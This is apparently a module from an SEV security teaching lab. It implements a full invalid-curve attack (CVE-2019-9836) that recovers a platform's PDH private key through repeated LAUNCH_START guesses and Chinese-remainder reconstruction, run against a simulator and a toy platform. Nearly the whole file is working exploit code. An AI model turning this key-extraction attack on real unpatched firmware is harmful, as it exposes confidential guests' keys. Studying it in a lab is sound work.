"""A01: the private key of a platform's PDH, learnt from SEV firmware that does not check the owner's point.

LAUNCH_START multiplies the owner's point by the private number k. A point of small order r has only r multiples, and a
point and its opposite share their x: so Z has about r/2 values, and the owner can try them all. A wrong guess fails at
wrap_mac, so each guess is one LAUNCH_START. The result is k modulo r, up to its sign. The squares of these residues
have no sign, and the Chinese remainder theorem joins them to k**2 once the product of the orders is larger than that.

``points.json`` holds 129 points of small prime order on curves y**2 = x**3 - 3x + b over the field of P-384, with a b
that is not P-384's, of the orders 3 to 997, 1022 bits in all. They were computed for sevlab: the points of 287 random
curves were counted (PARI), each with its twist, and a random point was multiplied by the number of points over the
prime. Counting takes hours; checking that a point has its order takes milliseconds.

The toy platform has a field so small that such points are found while you wait. The order of a random point divides a
number within 2 * sqrt(prime) of prime + 1 (Hasse), which baby steps and giant steps find (Shanks). If a small prime
divides that, a multiple of the point has this prime as its order.

Source: CVE-2019-9836; incidents A01; sev-launch 3 and 6.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from functools import cache, partial
from math import isqrt, prod
from pathlib import Path

from ...attestation import session
from ...errors import InputError
from ...formats.policy import Policy
from ...formats.sev_certs import P384, P384_BYTES, PDH, SCALAR, EccKey, SevCertificate
from ...launch.keys import SecretBytes
from ...layout.span import Explainable
from ...layout.views import Banner, Table, View
from ...simulator.curve import PRIME, add, multiply
from ...simulator.psp import Platform
from ...simulator.status import FirmwareError, demand

FILE = Path(__file__).with_name("points.json")


@dataclass(frozen=True, order=True, repr=False)
class SmallPoint:
    """A point (x, y) of the curve with this b; adding it *order* times gives the point at infinity."""

    order: int
    b: int
    x: int
    y: int

    @property
    def xy(self) -> tuple[int, int]:
        """The point as :mod:`sevlab.simulator.curve` takes it."""
        return self.x, self.y

    @property
    def key(self) -> EccKey:
        """The point in a certificate, which claims that it is on P-384 (0x404 bytes)."""
        qx, qy = (number.to_bytes(SCALAR, "little") for number in self.xy)
        return EccKey(curve=P384, qx=qx, qy=qy)

    def is_on_curve(self, prime: int = PRIME) -> bool:
        """Whether y**2 = x**3 - 3x + b, modulo *prime*."""
        return (self.y**2 - self.x**3 + 3 * self.x - self.b) % prime == 0

    def __repr__(self) -> str:
        return f"<point of order {self.order}, x = {self.x:x}>"


def load_points() -> list[SmallPoint]:
    """Return the points in ``points.json``, by rising order."""
    stored = json.loads(FILE.read_text(encoding="ascii"))["points"]
    points = (SmallPoint(one["order"], *(int(one[name], 16) for name in ("b", "x", "y"))) for one in stored)
    return sorted(points)


#: Bits of the square of a private number of P-384; the product of the orders needs more.
SQUARE_BITS = 2 * 8 * P384_BYTES
#: How many residues are shown, from the beginning and from the end.
_SHOWN, _LAST = 8, 3


@dataclass(frozen=True)
class Residue:
    """The private number modulo *order* is *value* or ``-value``; that took *tried* guesses."""

    order: int
    value: int
    tried: int


def learn_residue(point: SmallPoint, guess: Callable[[int], bool], prime: int = PRIME) -> Residue:
    """Try the multiples of a point until *guess* accepts one; if it accepts none, the order divides the private number.

    *guess* gets the x coordinate of a multiple, and returns whether the platform computed that one.
    """
    multiple = None
    for value in range(1, point.order // 2 + 1):
        multiple = add(multiple, point.xy, prime)
        if multiple is not None and guess(multiple[0]):
            return Residue(point.order, value, value)
    return Residue(point.order, 0, point.order // 2)


def join_residues(residues: Iterable[Residue]) -> int | None:
    """Return the number with these residues, up to their signs; None if they are too few.

    The smallest number with all the squares as residues is the square we want, once the product of the orders (all
    different primes) is larger than it. With fewer residues it is hardly ever a square, and then a wrong one: compare
    the result with the public key.
    """
    square, modulus = 0, 1
    for one in residues:
        square += modulus * ((one.value**2 - square) * pow(modulus, -1, one.order) % one.order)
        modulus *= one.order
    number = isqrt(square)
    return number if number and number * number == square else None


class PdhTheft(Explainable):
    """The attempt to steal the private key of a platform's PDH.

    ``private`` is the key (48 bytes, big-endian), None if it was not found; ``residues`` are what was learnt, with so
    many ``launches`` (LAUNCH_START); ``caught`` is the firmware's refusal, if any.
    """

    def __init__(self, certificate: SevCertificate) -> None:
        self.certificate = certificate
        self.private: SecretBytes | None = None
        self.residues: list[Residue] = []
        self.launches = 0
        self.caught: FirmwareError | None = None

    @property
    def bits(self) -> int:
        """The length of the product of the orders, in bits."""
        return int(prod(residue.order for residue in self.residues)).bit_length()

    def join(self, count: int | None = None) -> SecretBytes | None:
        """Return the private key for the certificate from the first *count* residues (default: all), or None."""
        number = join_residues(self.residues[:count])
        if number is None or number.bit_length() > 8 * P384_BYTES:
            return None
        private = SecretBytes(number.to_bytes(P384_BYTES, "big"))
        return private if session.public_key(private) == self.certificate.key else None

    def explain(self) -> View:
        """Show the result, and what each point revealed. The private key stays hidden."""
        words = f"{self.launches} LAUNCH_START{'s' * (self.launches != 1)}"
        if self.caught is not None:
            return View(Banner(f"REFUSED after {words}: {self.caught}", "green"))
        answer, colour = "they give the private key of the PDH", "pink"
        if self.private is None:
            answer, colour = "they do not give the private key", "grey"
        rows, product = [], 1
        for number, residue in enumerate(self.residues, 1):
            product *= residue.order
            known = f"k = {residue.value} or -{residue.value}" if residue.value else "k = 0"
            row = [str(number), str(residue.order), f"{known} (mod {residue.order})", str(residue.tried)]
            rows.append([*row, str(product.bit_length())])
        if len(rows) > _SHOWN + _LAST:
            rows = [*rows[:_SHOWN], ["...", "", "", "", ""], *rows[-_LAST:]]
        bits = f"bits of all orders' product ({SQUARE_BITS} needed)"
        table = Table(["point", "order", "what it reveals", "LAUNCH_STARTs", bits], rows, mono=[0, 1, 2, 3, 4])
        return View(Banner(f"{words} with {len(self.residues)} points: {answer}", colour), table)


class Guesser:
    """The attacker as an owner: sends a session for each guessed Z, and sees whether wrap_mac was right."""

    def __init__(self, platform: Platform, point: SmallPoint, theft: PdhTheft) -> None:
        self.platform, self.theft = platform, theft
        self.godh = session.godh_certificate(session.make_private()).replace(key=point.key).to_bytes()

    def __call__(self, x: int) -> bool:
        zeros = bytes(session.KEY_SIZE)
        keys = session.derive_session_keys(x.to_bytes(session.Z_SIZE, "big"), zeros)
        blob = session.wrap_keys(keys, zeros, zeros, zeros, Policy(0))
        self.theft.launches += 1
        try:
            handle = self.platform.launch_start(0, self.godh, blob.to_bytes())
        except FirmwareError as refusal:
            if refusal.name == "BAD_MEASUREMENT":
                return False
            raise
        self.platform.decommission(handle)
        return True


def steal_pdh(platform: Platform, points: Sequence[SmallPoint] | None = None) -> PdhTheft:
    """Steal the private key of a platform's PDH, with nothing but LAUNCH_START and DECOMMISSION. Never raises.

    *points* are by default those of :func:`load_points`; as many are used as are needed.
    """
    theft = PdhTheft(platform.pdh_cert_export()[PDH])
    try:
        for point in load_points() if points is None else points:
            theft.residues.append(learn_residue(point, Guesser(platform, point, theft)))
            if theft.bits > SQUARE_BITS:
                break
    except FirmwareError as refusal:
        theft.caught = refusal
        return theft
    theft.private = theft.join()
    return theft


#: The default prime of the field, and the limit, above which the search for points takes minutes.
TOY_PRIME, TOY_LIMIT = 2**32 - 5, 1 << 48
#: b of the toy platform's own curve, whose points nobody counted, and the largest order that is searched.
TOY_B, LARGEST = 7, 199


class ToyPlatform:
    """A platform over a small field that only has ``launch_start``; ``launches`` counts.

    *private* is its private number, 1 to *prime*; with *checks* it refuses points that are not on its curve. Raises
    :class:`~sevlab.errors.InputError` for impossible numbers.
    """

    def __init__(self, private: int, prime: int = TOY_PRIME, *, checks: bool = False) -> None:
        self.prime, self.checks, self.launches = check_prime(prime), checks, 0
        if not 0 < private <= prime:
            raise InputError("private", str(private), f"a number from 1 to {prime}")
        self._private = private

    def launch_start(self, point: tuple[int, int], guessed: bytes) -> bool:
        """Multiply the owner's point; return whether *guessed* is the :func:`seal` of the resulting x."""
        self.launches += 1
        x, y = point
        right = not self.checks or (y * y - x**3 + 3 * x - TOY_B) % self.prime == 0
        demand(right, "INVALID_CERTIFICATE", "the owner's key is not a point on the curve")
        product = multiply(point, self._private, self.prime)
        return seal(product[0] if product else 0) == guessed


def seal(x: int) -> bytes:
    """Return the toy's wrap_mac: SHA-256 (32 bytes) of x as 8 bytes, big-endian."""
    return hashlib.sha256(x.to_bytes(8, "big")).digest()


def check_prime(prime: int) -> int:
    """Return a usable prime; raises :class:`~sevlab.errors.InputError` for any other number."""
    needed = f"a prime with remainder 3 modulo 4, from 1003 to 2**{TOY_LIMIT.bit_length() - 1}"
    if not 1000 < prime < TOY_LIMIT or prime % 4 != 3 or not _is_prime(prime):
        raise InputError("prime", str(prime), needed, str(TOY_PRIME))
    return prime


@cache
def _is_prime(odd: int) -> bool:
    return all(odd % divisor for divisor in range(3, isqrt(odd) + 1, 2))


def find_points(prime: int = TOY_PRIME) -> list[SmallPoint]:
    """Return points of different small prime orders, whose product is larger than the square of any private number.

    The same prime gives the same points. Raises :class:`~sevlab.errors.InputError` for an unusable prime.
    """
    check_prime(prime)
    orders = [number for number in range(3, LARGEST + 1, 2) if _is_prime(number)]
    found: dict[int, SmallPoint] = {}
    product, b = 1, 2  # y**2 = x**3 - 3x + 2 and - 2 are singular
    while product <= prime * prime:
        b += 1
        if b == TOY_B:
            continue
        xy = _point(b, prime)
        number = _multiple(xy, prime)
        for order in orders:
            if order not in found and number % order == 0 and (small := _of_order(xy, number, order, prime)):
                found[order] = SmallPoint(order, b, *small)
                product *= order
    return sorted(found.values())


def _point(b: int, prime: int) -> tuple[int, int]:
    """Return a point of the curve with this b: the first with a y that is not 0, from x = 1 on."""
    x = 0
    while True:
        x += 1
        square = (x**3 - 3 * x + b) % prime
        y = pow(square, (prime + 1) // 4, prime)
        if y and y * y % prime == square:
            return x, y


def _multiple(point: tuple[int, int], prime: int) -> int:
    """Return a number within 2 * sqrt(prime) of prime + 1 that takes the point to infinity."""
    steps = isqrt(2 * isqrt(prime)) + 2
    babies: dict[int, int] = {}
    baby = None
    for count in range(1, steps + 1):
        baby = add(baby, point, prime)
        if baby is None:
            return count * ((prime + 1) // count)
        babies[baby[0]] = count
    stride = multiply(point, 2 * steps + 1, prime)
    first = prime + 1 - 2 * isqrt(prime) - 1
    giant = multiply(point, first, prime)
    for number in range(first, prime + 2 + 2 * isqrt(prime) + 2 * steps + 1, 2 * steps + 1):
        if giant is None:
            return number
        near = babies.get(giant[0], 0)
        for candidate in (number - near, number + near):
            if near and multiply(point, candidate, prime) is None:
                return candidate
        giant = add(giant, stride, prime)
    raise AssertionError("every point's order divides a number in this range")


def _of_order(point: tuple[int, int], number: int, order: int, prime: int) -> tuple[int, int] | None:
    """Return a multiple of the point with this prime order, None if there is none."""
    while number % order == 0:
        number //= order
    multiple = multiply(point, number, prime)
    while multiple is not None:
        following = multiply(multiple, order, prime)
        if following is None:
            return multiple
        multiple = following
    return None


def steal_toy(platform: ToyPlatform, points: list[SmallPoint] | None = None) -> tuple[int | None, list[Residue]]:
    """Return a toy platform's private number, or None, and what was learnt; FirmwareError if it checks the points."""

    def guess(point: SmallPoint, x: int) -> bool:
        return platform.launch_start(point.xy, seal(x))

    points = find_points(platform.prime) if points is None else points
    residues = [learn_residue(point, partial(guess, point), platform.prime) for point in points]
    return join_residues(residues), residues
